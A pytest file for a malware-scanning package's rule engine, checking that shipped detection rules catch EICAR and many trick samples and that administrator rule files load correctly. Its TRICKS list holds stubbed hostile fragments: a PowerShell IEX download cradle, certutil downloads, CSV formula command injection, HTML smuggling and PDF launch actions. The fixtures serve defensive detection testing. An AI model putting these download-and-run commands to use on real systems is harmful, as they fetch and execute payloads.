"""Rules: the package's own, the administrator's, and the errors that name their place."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from netinspect.errors import EngineError
from netinspect.samples import archives, tricks
from netinspect.scan.contract import Finding
from netinspect.scan.rulefiles import RuleSource, digest, load_sources
from netinspect.scan.rules import RuleEngine
from tests.scan import test_small_files

SHA = "a" * 64


def engine(*texts: str) -> RuleEngine:
    return RuleEngine([RuleSource(f"file{number}.yar", text) for number, text in enumerate(texts)])


def signatures(rules: RuleEngine, data: bytes) -> set[str]:
    return {finding.signature for finding in rules.scan(data, SHA) if isinstance(finding, Finding)}


@pytest.fixture(scope="module")
def shipped() -> RuleEngine:
    return RuleEngine(load_sources())


@pytest.mark.parametrize("around", [(b"", b""), (b"", b"\r\n"), (b"\xef\xbb\xbf", b""), (b"\r\n", b"\r\n\r\n")])
def test_eicar_is_found(shipped: RuleEngine, around: tuple[bytes, bytes]) -> None:
    found = shipped.scan(around[0] + archives.eicar() + around[1], SHA)
    assert found == (Finding("rules", "EICAR_Test_File", "malware", 1, SHA),)


def test_eicar_quoted_in_a_text_is_not_eicar(shipped: RuleEngine) -> None:
    text = b"The test file of the antivirus industry looks like this:\r\n\r\n    " + archives.eicar() + b"\r\n"
    assert shipped.scan(text, SHA) == ()


@pytest.mark.parametrize("data", [b"", b"Good morning", bytes(range(256)) * 20])
def test_harmless_octets_match_nothing(shipped: RuleEngine, data: bytes) -> None:
    assert shipped.scan(data, SHA) == ()


def test_a_script_that_fetches_and_runs_a_program_is_found(shipped: RuleEngine) -> None:
    script = b'a=new ActiveXObject("WScript.Shell");b="MSXML2.XMLHTTP";c="ADODB.Stream";c.SaveToFile(x);a.Run(x)'
    assert signatures(shipped, script) == {"Script_Dropper", "Script_Downloader"}


# Each is only as much of the trick as its rule needs, and does nothing; names end in .invalid.
TRICKS = [
    ("Script_Downloader", b'Set s=CreateObject("WScript.Shell"):s.Run "certutil -x http://x.invalid/a"'),
    ("Script_Hidden_Code", b'f=new ActiveXObject("Scripting.FileSystemObject");eval(String.fromCharCode(49))'),
    ("Script_Many_Characters", b"Execute(" + b" & ".join(b"Chr(%d)" % (65 + n % 26) for n in range(150)) + b")"),
    ("Script_Encoded", b"#@~^DgAAAA==\\ko$K6,J4J6nAYAAA==^#~@"),
    ("Html_Application", b"<html><HTA:APPLICATION id=x></html>"),
    ("Script_Component", b'<scriptlet><registration progid="x"/><script>x</script></scriptlet>'),
    ("PowerShell_Downloader", b"powershell -nop -w hidden IEX (New-Object Net.WebClient).DownloadString('x')"),
    ("PowerShell_Encoded", b"cmd /c powershell.exe -nop -enc " + b"QUJD" * 20),
    ("Batch_Downloader", b"@echo off\r\ncertutil.exe -f -urlcache http://x.invalid/a a.exe\r\n"),
    ("Autorun_Inf", b"[AutoRun]\r\nicon=x\r\nopen=x.exe\r\n"),
    ("Console_File_Script", b'<?xml version="1.0"?><MMC_ConsoleFile><String>res://apds.dll/redirect.html</String>'),
    ("Settings_Shortcut", b"<PCSettings><DeepLink>%windir%\\system32\\cmd.exe /c x</DeepLink></PCSettings>"),
    ("Shortcut_Shell", tricks.shortcut()),
    ("Shortcut_Payload", tricks.shortcut("x") + bytes(70_000)),
    ("Shortcut_Remote", tricks.shortcut("x https://x.invalid/a")),
    ("Internet_Shortcut_Program", b"[InternetShortcut]\r\nURL=file://x.invalid/share/a.exe\r\n"),
    ("Remote_Library", b"<?xml version='1.0'?><libraryDescription><url>https://x.invalid/a</url></libraryDescription>"),
    ("Remote_Desktop_Settings", b"full address:s:x.invalid\r\ndrivestoredirect:s:*\r\n"),
    ("Web_Query", b"WEB\r\n1\r\nhttp://x.invalid/a\r\n"),
    ("Csv_Formula", b"name,sum\r\na,=cmd|'/c x'!A1\r\n"),
    ("Csv_Formula", b"\"=MSEXCEL|'\\..\\..\\x.exe x'!A1\""),
    ("Html_Smuggling", b"<script>b=new Blob([Uint8Array.from(atob(x))]);a.href=URL.createObjectURL(b);"
                       b"a.download='x.zip';a.click()</script>"),
    ("Html_Hidden_Page", b"<script>document.write(unescape('%3C'))</script>"),
    ("Html_Data_Download", b'<a download="x.zip" href="data:application/zip;base64,UEsDB">x</a>'),
    ("Html_Program_In_Base64", b'<script>x="TVqQAAMAAAAEAAAA"</script>'),
    ("Protocol_Handler_Command", b'location.href="ms-msdt:/id PCWDiagnostic /param x";'),
    ("Svg_Script", b'<svg xmlns="http://www.w3.org/2000/svg"><script>1</script></svg>'),
    ("Svg_Script_Acts", b'<svg xmlns="x" onload="window.location=1"></svg>'),
    ("Pdf_Launch", b"%PDF-1.4\n1 0 obj<</S/Launch/F(x)>>endobj"),
    ("Pdf_Launch", b"%PDF-1.4\n1 0 obj<</S /#4caunch /F(x)>>endobj"),
    ("Pdf_JavaScript", b"%PDF-1.4\n1 0 obj<</S/JavaScript/JS(1)>>endobj"),
    ("Pdf_Hidden_Names", b"%PDF-1.4\n1 0 obj<</S/J#61va#53cript>>endobj"),
    ("Pdf_Script_Exploit", b"%PDF-1.4\n1 0 obj<</JS(this.media.newPlayer(null))>>endobj"),
    ("Pdf_Program_Attached", b"%PDF-1.4\n<</Type/EmbeddedFile>><</Type/Filespec/F(x.exe)/UF (x.exe)>>"),
    ("Pdf_Encrypted", b"%PDF-1.4\ntrailer<</Root 1 0 R/Encrypt 9 0 R>>"),
    ("OneNote_Program", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
     + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(20) + b"MZ" + bytes(64)),
    ("OneNote_Attachment", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
     + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + bytes(84)),
]  # fmt: skip


@pytest.mark.parametrize(("rule", "data"), TRICKS, ids=[rule for rule, _ in TRICKS])
def test_each_trick_is_found_by_its_rule(shipped: RuleEngine, rule: str, data: bytes) -> None:
    assert rule in signatures(shipped, data)


@pytest.mark.parametrize("rule", ["Script_Downloader", "PowerShell_Downloader", "Html_Smuggling", "Script_Hidden_Code"])
def test_scripts_are_found_in_wide_characters_too(shipped: RuleEngine, rule: str) -> None:
    data = dict(TRICKS)[rule]
    assert rule in signatures(shipped, b"\xff\xfe" + data.decode().encode("utf-16-le"))


def test_every_rule_of_the_package_has_a_trick_and_says_what_it_means() -> None:
    text = "".join(source.text for source in load_sources())
    rules = set(re.findall(r"^rule (\w+)", text, re.MULTILINE))
    assert rules - {rule for rule, _ in (*TRICKS, *test_small_files.TRICKS)} == {"EICAR_Test_File", "Script_Dropper"}
    assert text.count("description =") == text.count("category =") == len(rules)


@pytest.mark.parametrize(
    "data",
    [
        b"Please run powershell and look at http://www.example.org/help.html, then click the link to download.",
        b"<html><body><script>document.getElementById('a').click();location.href='b.html'</script></body></html>",
        b'<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>',
        b"[InternetShortcut]\r\nURL=https://www.example.org/index.html\r\n",
        b"name;sum\r\na;=SUM(A1:A2)\r\nb;-12\r\nc;cmd|x\r\n",
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction[2 0 R/Fit]>>endobj",
        b"#!/bin/sh\ncurl -o a.tar.gz https://www.example.org/a.tar.gz\n",
        b"@echo off\r\necho hello\r\ncopy a b\r\n",
        tricks.shortcut("notes.txt"),
        b"WEBINAR\r\n1\r\n",
        b"full address:s:server.example.org\r\nusername:s:bob\r\n",
    ],
)
def test_honest_files_match_nothing(shipped: RuleEngine, data: bytes) -> None:
    assert shipped.scan(data, SHA) == ()


def test_an_ordinary_text_costs_little(shipped: RuleEngine) -> None:
    text = b"Good morning, the minutes of our meeting are attached. " * 190
    start = time.process_time()
    for _ in range(200):
        shipped.scan(text, SHA)
    assert (time.process_time() - start) / 200 < 0.000_3  # 20 microseconds where nothing else runs


def test_an_administrators_folder_adds_rules(tmp_path: Path) -> None:
    (tmp_path / "ours.yar").write_text(
        'rule Ours { meta: category = "banned-type" severity = 3 strings: $a = "forbidden" condition: $a }'
    )
    (tmp_path / "more.yara").write_text('rule More { strings: $a = "forbidden" condition: $a }')
    (tmp_path / "notes.txt").write_text("no rule")
    sources = load_sources(str(tmp_path))
    assert [Path(source.origin).name for source in sources][-2:] == ["more.yara", "ours.yar"]
    assert sources[:-2] == load_sources()
    assert set(RuleEngine(sources).scan(b"a forbidden word", SHA)) == {
        Finding("rules", "Ours", "banned-type", 3, SHA),
        Finding("rules", "More", "malware", 1, SHA),
    }


def test_two_files_may_use_the_same_rule_name() -> None:
    text = 'rule Same { strings: $a = "word" condition: $a }'
    assert len(engine(text, text).scan(b"word", SHA)) == 2


def test_a_broken_rule_names_file_and_line() -> None:
    with pytest.raises(EngineError, match=r"^file1\.yar:3: .*mend the rule") as caught:
        engine("rule A { condition: true }", "rule B\n{\n condition: $missing }")
    assert caught.value.place == "file1.yar:3"


@pytest.mark.parametrize(
    ("meta", "line"),
    [('category = "nonsense"', 3), ("severity = 4", 3), ('severity = "high"', 3), ("severity = true", 3)],
)
def test_wrong_meta_names_file_and_line(meta: str, line: int) -> None:
    with pytest.raises(EngineError) as caught:
        engine("rule A\n{ meta:\n  " + meta + "\n condition: true }")
    assert caught.value.place == f"file0.yar:{line}"


def test_a_missing_folder_and_a_file_that_is_no_text_are_named(tmp_path: Path) -> None:
    with pytest.raises(EngineError, match="does not exist"):
        load_sources(str(tmp_path / "missing"))
    (tmp_path / "binary.yar").write_bytes(b"\xff\xfe\x00")
    with pytest.raises(EngineError, match=r"binary\.yar.*not UTF-8"):
        load_sources(str(tmp_path))


def test_the_digest_changes_with_the_text_only() -> None:
    one, same, other = RuleSource("a", "rule x"), RuleSource("b", "rule x"), RuleSource("a", "rule y")
    assert digest([one]) == digest([same]) != digest([other])
    assert digest([one, one]) != digest([RuleSource("a", "rule xrule x")])


def test_no_rules_match_nothing() -> None:
    assert RuleEngine([]).scan(b"anything", SHA) == ()
